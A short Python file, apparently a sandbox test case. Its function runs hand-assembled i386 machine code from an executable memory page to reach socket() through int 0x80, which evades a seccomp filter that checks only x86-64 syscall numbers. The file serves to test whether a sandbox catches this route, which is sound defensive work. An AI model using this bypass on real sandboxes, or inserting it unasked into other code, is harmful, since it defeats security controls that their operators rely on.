"""int 0x80: AF_INET through the i386 table, where 359 is socket.

The filter's numbers are x86-64's; without a look at the architecture this opens a socket.
"""

import ctypes
import mmap
import os


def attack() -> None:
    """Run the machine code of the call."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3"))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
